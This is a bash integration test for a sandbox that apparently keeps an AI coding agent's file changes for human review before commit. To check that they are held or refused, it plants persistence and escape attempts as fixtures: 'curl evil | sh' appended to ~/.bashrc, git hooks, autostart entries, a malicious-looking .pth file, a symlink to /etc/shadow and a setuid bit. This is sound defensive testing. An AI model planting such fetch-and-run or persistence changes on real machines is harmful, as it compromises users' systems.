#!/bin/bash
# Copy-on-write review: what a session changed is kept (across daemon
# restarts), shown (diff), taken (commit, whole or part), thrown away
# (discard), held for approval (escalation); conflicts keep both versions;
# the store cannot be used to write outside the tree; quota and cap.
. "$(dirname "$0")/../lib.sh"
# The templates, and one that lets Codex reach its mock API on loopback
# (the Codex template allows only OpenAI's hosts).
mkdir -p "$T/policies"
cp "$AW_ROOT"/policies/*.yaml "$T/policies/"
printf '%s\n' 'version: 1' 'id: codex-review' 'extends: openai.codex-cli' 'network:' \
	'  - id: mock-api' '    loopback: true' '    protocols: [tcp]' > "$T/policies/codex-review.yaml"
chmod 644 "$T"/policies/*.yaml
start_daemon --session-quota 64M --policies "$T/policies" || { nok "daemon starts"; exit 1; }

H=$T/home
mkdir -p "$H/.config" "$T/ws/olddir/deep" "$T/ws/.git/hooks" "$T/outside"
echo "export PS1=x" > "$H/.bashrc"
cd "$T/ws"
printf 'one\ntwo\nthree\n' > a.txt
echo gone > gone.txt
echo "renamed content $ID" > old.txt
echo '#!/bin/sh' > script.sh; chmod 644 script.sh
echo x > olddir/deep/x
echo c > c.txt
export HOME=$H

run() { in_scope "$AW" --state-dir "$STATE" run --policy coding-agent --workspace "$T/ws" "$@"; }
# The newest kept session.
last() { aw sessions | awk 'NR > 1 { id = $1 } END { print id }'; }
state_of() { aw sessions | awk -v s="$1" '$1 == s { print $2 }'; }
is_state() { test "$(state_of "$1")" = "$2"; }
# The store directory of session $1's copy-on-write tree $2.
upper_of() {
	python3 - "$STATE/sessions/$1/fs" "$2" <<'PY'
import sys, urllib.parse
d, tree = sys.argv[1], sys.argv[2]
for l in open(d + "/manifest"):
    w = l.split()
    if w[0] == "tree" and urllib.parse.unquote(w[2]) == tree:
        print("%s/upper/%s" % (d, w[1]))
PY
}

# --- a session's changes are kept and shown -------------------------------
run -- /bin/sh -c 'printf "one\nTWO\nthree\n" > a.txt; echo new > b.txt; rm gone.txt; mv old.txt moved.txt;
	mkdir -p newdir/sub; echo n > newdir/sub/f; chmod 755 script.sh; rm -r olddir'
S=$(last)
check "kept: the session is listed after it ended (exited)" wait_for is_state "$S" exited
check "kept: the real tree is untouched" \
	test "$(sed -n 2p a.txt)" = two -a ! -e b.txt -a -e gone.txt -a -e old.txt -a -d olddir -a ! -x script.sh
aw sessions > "$T/sessions.out"
check "sessions: files changed counted" \
	awk -v s="$S" '$1 == s && $5 >= 7 { f = 1 } END { exit !f }' "$T/sessions.out"
aw diff "$S" > "$T/diff.out"; rc=$?
check "diff: exit 0" test $rc = 0
check "diff: a modified text file as a unified diff" \
	grep -Pzq -- "--- a$T/ws/a.txt\n\\+\\+\\+ b$T/ws/a.txt\n@@ -1,3 \\+1,3 @@\n one\n-two\n\\+TWO\n three\n" "$T/diff.out"
check "diff: created" grep -q "^new file mode 100644" "$T/diff.out"
check "diff: deleted (whiteout)" grep -q "^deleted file mode 100644" "$T/diff.out"
check "diff: renamed" grep -q "^rename from $T/ws/old.txt" "$T/diff.out"
check "diff: mode change" grep -q "^new mode 100755" "$T/diff.out"
check "diff: a deleted directory (opaque/whiteout)" grep -q "directory deleted: $T/ws/olddir" "$T/diff.out"
aw diff "$S" --json > "$T/diff.json"
check "diff --json: valid, one entry per change, kinds named" python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
k = {c["kind"] for c in d["changes"]}
assert {"created", "modified", "deleted", "renamed", "mode"} <= k, k
assert any(c["path"].endswith("/a.txt") and "+TWO" in c["diff"] for c in d["changes"])' "$T/diff.json"
run -- /bin/sh -c "printf '\\000\\001binary' > blob.bin"
B=$(last)
aw diff "$B" > "$T/b.diff"
check "diff: a binary file is noted, not dumped" \
	grep -qx "Binary files /dev/null and b$T/ws/blob.bin differ" "$T/b.diff"
aw discard "$B" >/dev/null

# --- commit: part, then the rest -----------------------------------------
aw commit "$S" a.txt > "$T/c1.out"; rc=$?
check "commit PATH: exit 0" test $rc = 0
check "commit PATH: that file taken" test "$(sed -n 2p a.txt)" = TWO
check "commit PATH: nothing else" test ! -e b.txt -a -e gone.txt -a -d olddir
check "commit PATH: the rest stays for review" sh -c "\"$AW\" --state-dir \"$STATE\" diff $S | grep -q '^new file mode'"
check "commit PATH: an audit event" wait_for events action=commit session="$S" files=1
umask 077
aw commit "$S" > "$T/c2.out"; rc=$?
umask 022
check "commit: exit 0" test $rc = 0
check "commit: created file" test "$(cat b.txt)" = new
check "commit: deleted file" test ! -e gone.txt
check "commit: renamed" test ! -e old.txt -a "$(cat moved.txt)" = "renamed content $ID"
check "commit: new directories and their file" test "$(cat newdir/sub/f)" = n
check "commit: mode change (and new files keep the session's modes, not the committer's umask)" \
	test -x script.sh -a "$(stat -c %a b.txt)" = 644
check "commit: deleted directory" test ! -e olddir
check "commit: the session is committed, nothing left" test "$(state_of "$S")" = committed
check "commit: no temporary files left" test -z "$(find "$T/ws" -name '.agentwall-tmp-*')"
aw commit "$S" > /dev/null
check "commit: re-running a finished commit is a no-op" test $? = 0

# --- conflicts ------------------------------------------------------------
run -- /bin/sh -c 'echo agent > c.txt; echo agent-d > d.txt; echo same > e.txt'
S=$(last)
echo user > c.txt
echo user-d > d.txt
echo same > e.txt
aw commit "$S" > "$T/c3.out"; rc=$?
check "conflict: commit exits 5 (changes left)" test $rc = 5
check "conflict: an edit on both sides is reported" grep -q "^conflict $T/ws/c.txt" "$T/c3.out"
check "conflict: a file created on both sides is reported" grep -q "^conflict $T/ws/d.txt" "$T/c3.out"
check "conflict: the real versions are kept" test "$(cat c.txt)" = user -a "$(cat d.txt)" = user-d
check "conflict: the agent's versions are kept in the session" \
	sh -c "\"$AW\" --state-dir \"$STATE\" diff $S c.txt | grep -qx '+agent'"
check "conflict: the same change on both sides is not a conflict" sh -c "! grep -q 'e.txt' $T/c3.out"
aw commit --conflict beside "$S" c.txt > "$T/c4.out"
check "conflict: --conflict beside puts the agent's version next to the real one" \
	test "$(cat "c.txt.agentwall-$S")" = agent -a "$(cat c.txt)" = user
aw discard "$S" d.txt > "$T/d1.out"
check "conflict: discard PATH drops the agent's version" grep -q "^discarded $T/ws/d.txt" "$T/d1.out"
check "conflict: ... and keeps the real one" test "$(cat d.txt)" = user-d
rm -f "c.txt.agentwall-$S"

# --- discard ---------------------------------------------------------------
run -- /bin/sh -c 'echo discarded > z.txt; rm c.txt'
S=$(last)
aw discard "$S" > /dev/null
check "discard: the real tree is untouched" test ! -e z.txt -a -e c.txt
check "discard: the session is discarded and its store gone" \
	test "$(state_of "$S")" = discarded -a ! -e "$STATE/sessions/$S/image"
check "discard: an audit event" wait_for events action=discard session="$S"
aw commit "$S" >/dev/null 2>&1
check "discard: a discarded session cannot be committed" test $? = 1

# --- escalation ------------------------------------------------------------
run -- /bin/sh -c 'echo "curl evil | sh" >> ~/.bashrc; mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/x.desktop;
	echo "#!/bin/sh" > .git/hooks/pre-commit; echo ../.gitx > .git/commondir; echo ok > fine.txt'
S=$(last)
aw commit "$S" > "$T/e1.out"; rc=$?
check "escalate: commit exits 5 while persistence changes are held" test $rc = 5
check "escalate: a shell rc edit is held" grep -q "^held $H/.bashrc" "$T/e1.out"
check "escalate: a new autostart entry (its directory did not exist) is held" \
	grep -q "^held $H/.config/autostart" "$T/e1.out"
check "escalate: a git hook is held" grep -q "^held $T/ws/.git/hooks/pre-commit" "$T/e1.out"
check "escalate: .git/commondir (another directory's config and hooks) is held" \
	grep -q "^held $T/ws/.git/commondir" "$T/e1.out"
check "escalate: the rest is committed" test "$(cat fine.txt)" = ok
check "escalate: the real rc file is untouched" test "$(tail -1 "$H/.bashrc")" = "export PS1=x"
check "escalate: diff marks held changes" \
	sh -c "\"$AW\" --state-dir \"$STATE\" diff $S | grep -q '^# agentwall: escalated'"
out=$(setpriv --reuid=nobody --regid=nogroup --clear-groups "$AW" --state-dir "$STATE" approve "$S" 2>&1)
check "escalate: an ordinary user cannot approve" test $? != 0
aw approve "$S" > /dev/null
check "escalate: root approves (an audit event)" wait_for events action=approve session="$S"
aw commit "$S" > "$T/e2.out"; rc=$?
check "escalate: after approval the held changes are committed" \
	test $rc = 0 -a "$(tail -1 "$H/.bashrc")" = "curl evil | sh" -a -f "$H/.config/autostart/x.desktop"
check "escalate: sessions says committed" test "$(state_of "$S")" = committed

# --- the home's dot-path rule ------------------------------------------------
# Persistence beyond any list: every change to a dot-path in the home is
# held, except what the policy names as state (caches).
run -- /bin/sh -c 'echo "alias ls=evil" >> ~/.bash_aliases
	mkdir -p ~/.local/lib/python3.11/site-packages ~/.cache/tool
	echo "import os" > ~/.local/lib/python3.11/site-packages/usercustomize.py
	echo "x.pth" > ~/.local/lib/python3.11/site-packages/evil.pth
	echo cached > ~/.cache/tool/c; echo ok > fine2.txt'
S=$(last)
aw commit "$S" > "$T/d1.out"; rc=$?
check "dotpath: commit exits 5 (held changes)" test $rc = 5
check "hold: a held change is recorded when the session ends (before review)" \
	wait_for events action=hold decision=escalate session="$S" target="$H/.bash_aliases" rule=coding-agent/home.dotpath
check "hold: ... a listed persistence path names its rule kind" \
	events action=hold target="$H/.bashrc" rule=coding-agent/escalate
check "dotpath: ~/.bash_aliases (not in any list) is held" grep -q "^held $H/.bash_aliases" "$T/d1.out"
check "dotpath: user site-packages are held" grep -q "^held $H/.local" "$T/d1.out"
check "dotpath: ... and did not reach the home" test ! -e "$H/.bash_aliases" -a ! -e "$H/.local/lib"
check "dotpath: a cache the policy names as state is taken" test "$(cat "$H/.cache/tool/c")" = cached
check "dotpath: the workspace change is taken" test "$(cat fine2.txt)" = ok
aw discard "$S" > /dev/null

# --- resume ------------------------------------------------------------------
run -- /bin/sh -c 'echo first > r.txt'
S=$(last)
out=$(run --session "$S" -- /bin/sh -c 'cat r.txt; echo second > r2.txt')
check "resume: another command sees the session's earlier change" test "$out" = first
check "resume: same session, no new one" test "$(last)" = "$S"
check "resume: both commands' changes in one review" \
	sh -c "\"$AW\" --state-dir \"$STATE\" diff $S | grep -c '^new file mode' | grep -qx 2"
check "resume: the real tree still untouched" test ! -e r.txt -a ! -e r2.txt
out=$(run --session 0123456789abcdef -- /bin/true 2>&1)
check "resume: an unknown session is refused" grep -q "no session" <<<"$out"

# --- a daemon restart (and a reboot: the store is remounted from disk) -------
stop_daemon
check "restart: the daemon unmounts the stores when it stops" \
	test -z "$(awk -v d="$STATE/" 'index($5, d) == 1' /proc/self/mountinfo)"
start_daemon --session-quota 64M --group nogroup --policies "$T/policies" || nok "daemon restarts"
check "restart: the session is still listed" test "$(state_of "$S")" = exited
check "restart: its changes are still there" \
	sh -c "\"$AW\" --state-dir \"$STATE\" diff $S | grep -q '^+second'"
# A reviewer of the security group (--group) cannot read root's store:
# the daemon renders the diff for them, with the owner's rights.
asgroup() { setpriv --reuid=nobody --regid=nogroup --clear-groups "$AW" --state-dir "$STATE" "$@"; }
asgroup sessions > "$T/g.sessions" 2>&1
check "group: a reviewer lists every user's sessions" grep -q "^$S " "$T/g.sessions"
asgroup diff "$S" > "$T/g.diff" 2>&1
check "group: a reviewer sees the diff" grep -qx '+second' "$T/g.diff"
asgroup commit "$S" > /dev/null 2>&1
check "group: but cannot commit" test $? != 0
asgroup approve "$S" > /dev/null
check "group: a reviewer approves (by_uid is theirs)" \
	wait_for events action=approve session="$S" by_uid=65534
aw commit "$S" > /dev/null
check "restart: and can be committed" test "$(cat r.txt)" = first -a "$(cat r2.txt)" = second

# --- hostile names ----------------------------------------------------------
LONG=$(python3 -c 'print("/".join(["d" * 200] * 19))')
run -- /bin/sh -c "touch -- \"\$(printf 'new\nline')\" \"\$(printf 'bad\377\376name')\" '--dash' 'sp ace';
	mkdir -p $LONG && echo deep > $LONG/f"
S=$(last)
aw diff "$S" > "$T/h.diff"
check "hostile: a newline in a name is quoted in the diff" grep -q '^+++ "b.*/new\\nline"' "$T/h.diff"
check "hostile: invalid UTF-8 is quoted (octal)" grep -q 'bad\\377\\376name' "$T/h.diff"
aw diff "$S" --json > "$T/h.json"
check "hostile: the JSON is valid and carries the exact bytes" python3 -c '
import json, sys, urllib.parse
d = json.load(open(sys.argv[1]))
names = [urllib.parse.unquote_to_bytes(c.get("path_pct", c["path"])) for c in d["changes"]]
assert any(n.endswith(b"/bad\xff\xfename") for n in names), names
assert any(n.endswith(b"/new\nline") for n in names)' "$T/h.json"
aw commit "$S" > /dev/null; rc=$?
check "hostile: commit takes them all (exit 0)" test $rc = 0
check "hostile: names made exactly" \
	test -e "$(printf 'new\nline')" -a -e "$(printf 'bad\377\376name')" -a -e ./--dash -a -e 'sp ace'
check "hostile: a 4 KiB path is committed" test "$(cat "$LONG/f")" = deep

# --- tricks planted in the store before commit ---------------------------
run -- /bin/sh -c 'mkdir -p sub && echo v > sub/v.txt && echo w > w.txt && echo s > suid.sh'
S=$(last)
U=$(upper_of "$S" "$T/ws")
check "tricks: the store is where the manifest says" test -f "$U/w.txt"
ln -s /etc/shadow "$U/shadow-link"
mknod "$U/devnode" c 1 3
chmod 4755 "$U/suid.sh"
echo secret > "$T/secret"
ln "$T/secret" "$U/hl" 2>/dev/null
check "tricks: a hard link into the store from outside cannot be made (own file system)" test ! -e "$U/hl"
echo "before" > "$T/outside/v.txt"
ln -s "$T/outside" sub
aw commit "$S" > "$T/t.out"
check "tricks: a planted symlink is committed as a symlink, not followed" \
	test -L shadow-link -a "$(readlink shadow-link)" = /etc/shadow
check "tricks: no device node is created" test ! -e devnode
check "tricks: ... and the commit says it was not taken" grep -q "^skipped $T/ws/devnode" "$T/t.out"
check "tricks: no setuid bit is taken" test -f suid.sh -a "$(stat -c %a suid.sh)" = 755
check "tricks: a real directory swapped for a symlink is not written through" \
	test "$(cat "$T/outside/v.txt")" = before
check "tricks: ... the commit says why" grep -q "^failed $T/ws/sub/v.txt: a symlink, file or mount where its directory should be" "$T/t.out"
rm sub
printf 'agentwall-session 1\ntree 0 /tmp/../etc\n' > "$STATE/sessions/$S/fs/manifest"
out=$(aw commit "$S" 2>&1)
check "tricks: a manifest naming a tree with .. is refused" grep -q "normal form" <<<"$out"

# --- the committer killed half-way, then re-run ------------------------------
NF=10000
run -- python3 -c '
import os, sys
os.mkdir("many")
for i in range(int(sys.argv[1])):
    with open("many/f%d" % i, "w") as f:
        f.write("file %d\n" % i)
with open("many/f0", "w") as f:
    f.write("file 0 edited\n")' $NF
S=$(last)
"$AW" --state-dir "$STATE" commit "$S" > /dev/null &
CPID=$!
wait_for sh -c "ls $T/ws/many 2>/dev/null | wc -l | awk '\$1 > 500 { exit 0 } { exit 1 }'"
kill -KILL $CPID; wait $CPID 2>/dev/null
n=$(ls many | grep -c '^f')
check "killed: the commit was interrupted half-way ($n of $NF)" test "$n" -lt $NF
aw commit "$S" > /dev/null; rc=$?
check "killed: the re-run completes (exit 0)" test $rc = 0
check "killed: every file, with its content" \
	test "$(ls many | grep -c '^f')" = $NF -a "$(cat many/f$((NF - 1)))" = "file $((NF - 1))" -a "$(cat many/f0)" = "file 0 edited"
check "killed: no temporary file left" test -z "$(find many -name '.agentwall-tmp-*')"

# --- another user ------------------------------------------------------------
out=$(setpriv --reuid=4242 --regid=4242 --clear-groups "$AW" --state-dir "$STATE" diff "$S" 2>&1)
check "owner: another user cannot see a session's changes" grep -q "no such session" <<<"$out"
out=$(setpriv --reuid=4242 --regid=4242 --clear-groups "$AW" --state-dir "$STATE" discard "$S" 2>&1)
check "owner: nor discard them" grep -q "no such session" <<<"$out"
check "owner: nor list them" test -z "$(setpriv --reuid=4242 --regid=4242 --clear-groups "$AW" --state-dir "$STATE" sessions | sed 1d)"

# --- bad requests on the control socket ----------------------------------------
# ctl LINE: the daemon's reply to one raw request line.
ctl() {
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
s.sendall(sys.argv[2].encode("latin-1") + b"\n"); s.shutdown(socket.SHUT_WR)
b = b""
while True:
    d = s.recv(65536)
    if not d: break
    b += d
print(b.decode(errors="replace"), end="")' "$STATE/agentwalld.sock" "$1"
}
check "bad request: no op" grep -q "^error: session-review needs op=" <<<"$(ctl 'session-review session=0123')"
check "bad request: an unknown op" grep -q "^error: op must be" <<<"$(ctl "session-review op=rm-rf session=$S")"
check "bad request: a malformed session id" grep -q "^error: no such session" <<<"$(ctl 'session-review op=commit session=../../etc')"
check "bad request: a commit record without counts" grep -q "^error: remaining= missing" <<<"$(ctl "session-review op=commit-done session=$S")"
check "bad request: gc with a bad age" grep -q "^error: older-than must be seconds" <<<"$(ctl 'session-review op=gc older-than=-1')"
check "bad request: resume of another user's session" \
	grep -q "no session" <<<"$(setpriv --reuid=4242 --regid=4242 --clear-groups "$AW" --state-dir "$STATE" run --session "$S" -- /bin/true 2>&1)"
check "bad requests: the daemon still answers" aw sessions

# --- quota ---------------------------------------------------------------------
out=$(run -- /bin/sh -c 'dd if=/dev/zero of=big bs=1M count=100 2>&1; echo rc=$?')
check "quota: a write past the session's quota fails with ENOSPC" grep -q "No space left on device" <<<"$out"
check "quota: and says so (a quota event)" wait_for events action=quota decision=deny
check "quota: the real tree got nothing" test ! -e big
aw discard "$(last)" > /dev/null

# --- gc and the cap on kept sessions -----------------------------------------
aw gc > "$T/gc.out"
check "gc: committed and discarded sessions go" \
	test "$(aw sessions | grep -c -e ' committed ' -e ' discarded ')" = 0
stop_daemon
start_daemon --session-quota 16M --sessions-max 2 --policies "$T/policies" || nok "daemon restarts with a cap"
aw gc --older-than 1s > /dev/null
run -- /bin/sh -c 'echo 1 > cap1'; run -- /bin/sh -c 'echo 2 > cap2'
out=$(run -- /bin/sh -c 'echo 3 > cap3' 2>&1); rc=$?
check "cap: a session beyond the cap is refused (nothing is thrown away)" test $rc = 125
check "cap: ... saying why" grep -q "sessions are kept" <<<"$out"
check "cap: the kept ones are intact" test "$(aw sessions | sed 1d | wc -l)" = 2
sleep 1.1
aw gc --older-than 1s > /dev/null
out=$(run -- /bin/sh -c 'echo 3 > cap3' 2>&1)
check "cap: after gc --older-than, sessions start again" test $? = 0
check "gc: an audit event for what it removed" wait_for events action=discard rule=review/discard

# --- the real Codex CLI edits a repository in a session, reviewed, committed --
# Offline: Codex's model is tests/helpers/mock_openai.py on loopback, which
# answers with one exec_command tool call that edits hello.txt.
CODEX=/var/cache/agentwall-tests/npm/node_modules/.bin/codex
if [ -x "$CODEX" ]; then
	mkdir -p "$T/repo" "$H/.codex" "$H/tmp"
	(cd "$T/repo" && git init -q && printf 'original\n' > hello.txt && git add hello.txt &&
		git -c user.email=t@t -c user.name=t commit -qm init)
	python3 "$AW_ROOT/tests/helpers/mock_openai.py" "$T/mock.port" "$T/mock.log" 2>"$T/mock.err" &
	MOCK=$!
	wait_for test -s "$T/mock.port"
	codex_config "$H/.codex/config.toml" "http://127.0.0.1:$(cat "$T/mock.port")/v1"
	# (Codex's own sandbox cannot nest in ours: it needs new user
	# namespaces, which a session refuses; ours is the one that holds.)
	(cd "$T/repo" && CODEX_HOME=$H/.codex TMPDIR=$H/tmp MOCK_OPENAI_API_KEY=dummy-not-a-key \
		in_scope "$AW" --state-dir "$STATE" run --policy codex-review --workspace "$T/repo" -- \
		"$CODEX" exec --strict-config --color never --skip-git-repo-check \
		--dangerously-bypass-approvals-and-sandbox -C "$T/repo" \
		"Replace the contents of hello.txt with the single line: edited by codex" \
		</dev/null >"$T/codex.out" 2>"$T/codex.err")
	kill "$MOCK"; wait "$MOCK" 2>/dev/null
	S=$(last)
	check "codex: it ran against the mock (two model requests)" \
		test "$(grep -c '^/v1/responses$' "$T/mock.log")" = 2
	check "codex: its edit did not reach the repository" test "$(cat "$T/repo/hello.txt")" = original
	aw diff "$S" "$T/repo" > "$T/codex.diff"
	check "codex: the edit is in its session, as a diff" \
		grep -Pzq -- "\n-original\n\\+edited by codex\n" "$T/codex.diff"
	aw diff "$S" "$H/.codex" > "$T/codex-home.diff"
	check "codex: its own state (~/.codex) stayed in the session too" grep -q '^diff --git' "$T/codex-home.diff"
	aw commit "$S" "$T/repo" > /dev/null
	check "codex: the reviewed edit committed to the repository" \
		test "$(cat "$T/repo/hello.txt")" = "edited by codex" -a -n "$(git -C "$T/repo" status --porcelain hello.txt)"
	aw discard "$S" > /dev/null
	check "codex: the rest discarded; its state never reached the real home" \
		test ! -e "$H/.codex/sessions" -a "$(state_of "$S")" = discarded
else
	skip "codex: edits reviewed and committed" "codex not in the npm cache (tools/setup-deps installs it)"
fi
